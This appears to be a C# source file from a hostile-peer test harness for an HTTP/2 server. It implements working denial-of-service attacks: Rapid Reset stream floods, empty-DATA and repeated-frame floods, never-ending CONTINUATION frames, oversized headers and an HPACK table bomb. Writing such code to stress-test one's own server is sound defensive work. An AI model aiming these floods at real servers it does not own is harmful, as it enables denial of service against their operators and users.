using Lstm.Cli.Bench.Http2;
using Lstm.HostilePeers.Wire;

namespace Lstm.HostilePeers.Attacks;

/// <summary>Floods of frames that cost the sender little, and heads that are too large.</summary>
internal static class FrameAttacks
{
    private const int Workers = 4;
    private const int Together = 200;

    /// <summary>The same frame, many in one write.</summary>
    /// <param name="target">The server.</param>
    /// <param name="frame">The frame.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task SameAsync(Target target, byte[] frame)
    {
        byte[] many = [.. Enumerable.Repeat(frame, Together).SelectMany(one => one)];
        return target.FloodAsync(Workers, connection => connection.SendAsync(many, target.Stop));
    }

    /// <summary>Calls that are reset as soon as they are opened.</summary>
    /// <param name="target">The server.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task RapidResetAsync(Target target) => target.FloodAsync(Workers, connection =>
    {
        var frames = new MemoryStream();
        for (int n = 0; n < Together; n++)
        {
            int id = connection.NewStream().Id;
            frames.Write(Frames.Frame(FrameType.Headers, FrameHeader.EndHeaders, id, Requests.Stream));
            frames.Write(Frames.Number(FrameType.ResetStream, id, 8));
        }

        return connection.SendAsync(frames.ToArray(), target.Stop);
    });

    /// <summary>Empty DATA frames on an open call.</summary>
    /// <param name="target">The server.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task EmptyDataAsync(Target target) => target.RepeatAsync(Workers, async (connection, _) =>
    {
        var stream = await connection.OpenAsync(Requests.Stream, cancellation: target.Stop);
        byte[] empty = Frames.Frame(FrameType.Data, 0, stream.Id, []);
        byte[] many = [.. Enumerable.Repeat(empty, Together).SelectMany(one => one)];
        while (!stream.Ended.IsCompleted)
            await connection.SendAsync(many, target.Stop);
        return stream;
    });

    /// <summary>A head whose CONTINUATION frames never end.</summary>
    /// <param name="target">The server.</param>
    /// <param name="piece">What is in each frame.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task ContinuationAsync(Target target, byte[] piece) => target.FloodAsync(Workers, async connection =>
    {
        int id = connection.NewStream().Id;
        await connection.SendAsync(Frames.Frame(FrameType.Headers, 0, id, Requests.Stream), target.Stop);
        byte[] frame = Frames.Frame(FrameType.Continuation, 0, id, piece);
        byte[] many = [.. Enumerable.Repeat(frame, Together).SelectMany(one => one)];
        while (!connection.Closed.IsCompleted)
            await connection.SendAsync(many, target.Stop);
    });

    /// <summary>A head that is sound but for its size.</summary>
    /// <param name="target">The server.</param>
    /// <param name="fields">What it has besides.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task LargeHeadAsync(Target target, IEnumerable<(string, string)> fields)
    {
        byte[] block = Requests.Head("Stream", [.. fields]);
        return SplitHeadAsync(target, block, 16_384);
    }

    /// <summary>A head of four kilobytes in the table, and thousands of references to it: HPACK as a bomb.</summary>
    /// <param name="target">The server.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task TableBombAsync(Target target)
    {
        byte[] field = Frames.Block(("x-bomb", new string('b', 3900)));
        field[0] = 0x40; // RFC 7541 section 6.2.1: to be remembered; it is number 62 then.
        return SplitHeadAsync(target, [.. Requests.Stream, .. field, .. Enumerable.Repeat((byte)(0x80 | 62), 10_000)], 16_384);
    }

    /// <summary>A sound head in CONTINUATION frames of one byte.</summary>
    /// <param name="target">The server.</param>
    /// <returns>Ends by cancellation.</returns>
    public static Task HeadInBytesAsync(Target target) => SplitHeadAsync(target, Requests.Stream, 1);

    // Ended at once, so that what is not refused ends with OK.
    private static Task SplitHeadAsync(Target target, byte[] block, int size) => target.RepeatAsync(Workers, async (connection, _) =>
    {
        var stream = connection.NewStream();
        var frames = new MemoryStream();
        for (int at = 0; at < block.Length; at += size)
        {
            byte flags = (byte)((at + size >= block.Length ? FrameHeader.EndHeaders : 0) | (at == 0 ? FrameHeader.EndStream : 0));
            frames.Write(Frames.Frame(at == 0 ? FrameType.Headers : FrameType.Continuation, flags, stream.Id, block.AsSpan(at, Math.Min(size, block.Length - at))));
        }

        await connection.SendAsync(frames.ToArray(), target.Stop);
        return stream;
    });
}
